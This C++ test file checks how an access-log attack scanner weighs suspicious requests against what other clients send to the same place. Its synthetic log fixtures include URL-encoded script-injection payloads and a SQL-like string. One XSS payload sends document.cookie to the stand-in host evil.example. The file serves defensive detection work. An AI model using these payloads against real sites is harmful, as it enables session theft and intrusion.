#include "place_priors.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "investigate/scan.h"
#include "logs/source.h"

namespace quell::investigate {
namespace {

constexpr std::string_view kLine =
    "{} - - [22/Nov/2026:{:02}:{:02}:00 +0000] \"GET {} HTTP/1.1\" 200 {} "
    "\"-\" \"Mozilla/5.0\"\n";

std::string line(std::string_view client, std::string_view target, unsigned minute = 0) {
  const std::size_t page = target.substr(0, target.find('?')).size();  // each of a size of its own
  return fmt::format(fmt::runtime(kLine), client, minute / 60 % 24, minute % 60, target,
                     600 + page * 100 + minute % 7);
}

/// "aaa", "baa", …: names that differ in letters, as what people search for does.
std::string word(unsigned number) {
  std::string out;
  for (int i = 0; i < 3; ++i, number /= 26) out += static_cast<char>('a' + number % 26);
  return out;
}

std::string address(unsigned number) {
  return fmt::format("{}.{}.44.7", 20 + number, number);
}

/// What is worth an incident to the classifier alone.
std::string markup(unsigned number) {
  return fmt::format("/search?q=%3Cscript%20src={}.js%3E%3C/script%3E", word(number));
}

/// A page and what belongs to it, then a search.
std::string visit(std::string_view client, std::string_view search, unsigned minute) {
  return line(client, "/", minute) + line(client, "/app.css", minute) +
         line(client, "/app.js", minute) + line(client, search, minute);
}

/// 60 visitors, of which 41 search for code.
std::string code_search() {
  std::string out;
  for (unsigned i = 0; i < 60; ++i) {
    out += visit(address(i), i < 41 ? markup(i) : "/search?q=" + word(i), i * 9);
  }
  return out;
}

ScanReport scan(const std::string& log) {
  Scan fold;
  logs::ReadSummary input =
      logs::read_source(logs::memory_source("access.log", log), {}, fold.sink());
  return std::move(fold).report(std::move(input));
}

const AttackGroup* group_of(const ScanReport& report, std::string_view client) {
  for (const Actor& actor : report.attackers) {
    if (actor.key == client && !actor.groups.empty()) return &actor.groups.front();
  }
  return nullptr;
}

bool says(const AttackGroup& group, std::string_view part) {
  return std::ranges::any_of(group.judgement.evidence, [&](const Evidence& evidence) {
    return evidence.text.find(part) != std::string::npos;
  });
}

TEST(PlacePriors, WhatManyVisitorsSearchForIsNoAlarmButIsShown) {
  const ScanReport report = scan(code_search());
  EXPECT_EQ(report.attackers.size(), 41U);
  EXPECT_EQ(report.for_incident(), 0U);
  for (const Actor& actor : report.attackers) {
    ASSERT_EQ(actor.groups.size(), 1U);
    EXPECT_LT(actor.groups[0].top_score, kIncidentScore);
    EXPECT_GE(actor.groups[0].top_score, attack::kAttackScore);
    EXPECT_TRUE(says(actor.groups[0], "41 of 60 clients send such text here"));
  }
}

TEST(PlacePriors, TheSameTextWhereNobodyElseSendsItStaysAnAlarm) {
  const std::string other = "/item?name=%3Cscript%20src=aaa.js%3E%3C/script%3E";
  const ScanReport report = scan(code_search() + line("203.0.113.9", other));
  const AttackGroup* lone = group_of(report, "203.0.113.9");
  ASSERT_NE(lone, nullptr);
  EXPECT_GE(lone->top_score, kIncidentScore);
  EXPECT_FALSE(says(*lone, "send such text here"));
  EXPECT_EQ(report.for_incident(), 1U);
}

TEST(PlacePriors, WhatIsSureOfItselfStaysSureInASearchBox) {
  const std::string attack =
      "/search?q=%22%3E%3Cscript%3Efetch('//evil.example/'%2Bdocument.cookie)%3C/script%3E";
  const ScanReport report = scan(code_search() + line("203.0.113.9", attack));
  const AttackGroup* sure = group_of(report, "203.0.113.9");
  ASSERT_NE(sure, nullptr);
  EXPECT_GE(sure->top_score, kIncidentScore);
  EXPECT_TRUE(says(*sure, "send such text here"));
}

TEST(PlacePriors, ACampaignThatOnlyAttacksIsNoOrdinaryUse) {
  std::string log;
  for (unsigned i = 0; i < 60; ++i) log += line(address(i), markup(i), i);
  EXPECT_EQ(scan(log).for_incident(), 60U);
}

TEST(PlacePriors, ManyAddressesOfOneNetworkAreNoOrdinaryUse) {
  std::string log;
  for (unsigned i = 0; i < 60; ++i) log += visit(fmt::format("192.0.2.{}", i), markup(i), i);
  EXPECT_EQ(scan(log).for_incident(), 60U);
}

TEST(PlacePriors, OnePayloadOverManyAddressesIsNoOrdinaryUse) {
  std::string log;
  for (unsigned i = 0; i < 60; ++i) log += visit(address(i), markup(i % 3), i);
  EXPECT_EQ(scan(log).for_incident(), 60U);
}

TEST(PlacePriors, ThoseWhoAttackInSeveralPlacesAreNoOrdinaryUse) {
  std::string log;
  for (unsigned i = 0; i < 60; ++i) {
    log += visit(address(i), markup(i), i) +
           line(address(i), "/item?name=%3Cscript%20src=aaa.js%3E%3C/script%3E", i);
  }
  EXPECT_EQ(scan(log).for_incident(), 120U);
}

TEST(PlacePriors, TextAmongNumbersWeighsMore) {
  const std::string weak = "select%20*%20from%20users%20where%20id=1";
  std::string numbers;
  std::string words;
  for (unsigned i = 0; i < 40; ++i) {
    numbers += line(address(i), fmt::format("/item?id={}", i));
    words += line(address(i), "/item?id=" + word(i));
  }
  const std::string attack = line("203.0.113.9", "/item?id=" + weak);
  const ScanReport among_numbers = scan(numbers + attack);
  const ScanReport among_words = scan(words + attack);
  const AttackGroup* odd = group_of(among_numbers, "203.0.113.9");
  const AttackGroup* even = group_of(among_words, "203.0.113.9");
  ASSERT_NE(odd, nullptr);
  ASSERT_NE(even, nullptr);
  EXPECT_GT(odd->top_score, even->top_score);
  EXPECT_TRUE(says(*odd, "each of 40 other clients sends only numbers here"));
  EXPECT_FALSE(says(*even, "only numbers"));
}

TEST(PlacePriors, AFewUsersDecideNothing) {
  std::string log;
  for (unsigned i = 0; i < 7; ++i) log += visit(address(i), markup(i), i);
  EXPECT_EQ(scan(log).for_incident(), 7U);
}

TEST(PlacePriors, AreTheSameHoweverTheLogIsShared) {
  std::vector<std::string> parts(3);
  for (unsigned i = 0; i < 60; ++i) {
    for (const std::string_view target : {"/", "/app.css", "/app.js"})
      parts[(i * 7 + target.size()) % 3] += line(address(i), target, i);
    parts[i % 3] += line(address(i), i < 41 ? markup(i % 30) : "/search?q=" + word(i), i);
  }
  const auto merged = [&](std::vector<std::size_t> order) {
    std::vector<Scan> scans(order.size());
    for (std::size_t i = 0; i < order.size(); ++i) {
      const std::string name = fmt::format("{}.log", order[i]);
      (void)logs::read_source(logs::memory_source(name, parts[order[i]]), {}, scans[i].sink());
    }
    for (std::size_t i = 1; i < scans.size(); ++i) scans[0].merge(std::move(scans[i]));
    return to_json(std::move(scans[0]).report({}));
  };
  const std::string one = merged({0, 1, 2});
  EXPECT_NE(one.find("clients send such text here"), std::string::npos);
  EXPECT_EQ(one, merged({2, 0, 1}));
}

TEST(PlacePriors, ShiftIsBoundedAndRisesWithTheShare) {
  const auto lowered = [](std::uint64_t senders, std::uint64_t users) {
    return shift_of({.visitors = senders, .users = users, .senders = senders});
  };
  EXPECT_EQ(lowered(7, 7), 0);
  EXPECT_EQ(lowered(10, 10'000'000), 0);
  EXPECT_LT(lowered(10, 4000), 0);
  EXPECT_LT(lowered(10, 1000), lowered(10, 4000));
  EXPECT_EQ(lowered(1'000'000, 1'000'000), -3);
  EXPECT_EQ(shift_of({.numeric = 19, .ordinary = 19}), 0);
  EXPECT_EQ(shift_of({.numeric = 20, .ordinary = 21}), 0);
  EXPECT_EQ(shift_of({.numeric = 20, .ordinary = 20}), 1);
  EXPECT_EQ(shift_of({.numeric = 20'000, .ordinary = 20'000}), 2);
}

}  // namespace
}  // namespace quell::investigate
